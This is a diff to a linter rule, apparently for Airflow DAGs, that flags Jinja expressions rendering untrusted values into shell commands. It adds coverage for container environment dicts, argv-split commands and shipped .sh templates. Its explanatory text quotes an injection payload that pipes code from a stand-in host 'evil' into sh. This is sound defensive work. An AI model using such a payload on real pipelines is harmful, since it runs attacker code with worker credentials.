@@ -30,7 +30,9 @@ function reevaluates(script: string, name: string): boolean {
 /** Template values passed through `env=` that the operator's script evaluates again (see `reevaluates`). */
 function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext, restricted: Set<string>): void {
   if (anchor.type !== 'call') return;
-  const env = callArgs(anchor).keywords.get('env');
+  // BashOperator `env`, KubernetesPodOperator `env_vars` (dict form), DockerOperator `environment`
+  const kws = callArgs(anchor).keywords;
+  const env = kws.get('env') ?? kws.get('env_vars') ?? kws.get('environment');
   if (!env || env.type !== 'dictionary') return;
   const text = scripts.map((s) => commandParts(s.node).literals.map((l) => l.text).join(' ')).join('\n');
   if (!/\$/.test(text)) return;
@@ -75,12 +77,15 @@ function check(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext): vo
         }
       }
       if (!first) continue;
-      const f = first;
+      // a command split into arguments (no shell): only `dag_run.conf` (params may be validated), at medium
+      if (s.argv && best < 5) continue;
+      const f = s.argv ? { ...first, severity: 'medium' as Severity } : first;
       const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
       reportOnce(ctx, lit.node, () =>
         ctx.report(lit.node, { label: s.label, expr, why: f.why }, {
           severity: f.severity,
           key: `${s.label} ${f.expr}`,
+          ...(s.argv ? { message: 'argv' } : {}),
         }),
       );
     }
@@ -94,11 +99,12 @@ export default defineRule({
     category: 'shell-injection',
     severity: 'high',
     message: '{label} renders `{{ {expr} }}` into a shell command: {why}',
+    messages: { argv: '{label} renders `{{ {expr} }}` into the container\'s command line, which is split at spaces into arguments, so the value can add options and arguments: {why}' },
     aliases: [],
     docs: {
       what:
-        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint), and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
-        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported on the `env` value.',
+        'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell; and `.sh` files shipped with the DAGs, the templates of `bash_command="x.sh "` (there `dag_run.conf` only).\n\n' +
+        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported on the `env` value (also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts).',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
@@ -108,4 +114,16 @@ export default defineRule({
     },
   },
   ...shellScriptMatchers(check),
+  // `.sh` files shipped with the DAGs are the templates of `bash_command="scripts/run.sh "`: rendered as Jinja
+  onDataFile(ctx) {
+    if (ctx.file.dataKind !== 'shell' || !/dag_run|triggering_/.test(ctx.file.text)) return;
+    const name = ctx.file.path.split('/').pop()!;
+    for (const e of jinjaExpressions(ctx.file.text)) {
+      const k = classifyJinja(e.expr);
+      // only trigger input: params may be validated by the DAG that renders the file, which is not known here
+      if (k.trust !== 'user' || k.viaParams) continue;
+      const expr = e.expr.length > 60 ? e.expr.slice(0, 57) + '…' : e.expr;
+      ctx.reportRange(e.start, e.end, { label: `the shell script \`${name}\` (a \`bash_command\` template)`, expr, why: k.why }, { key: `${name} ${e.expr}` });
+    }
+  },
 });
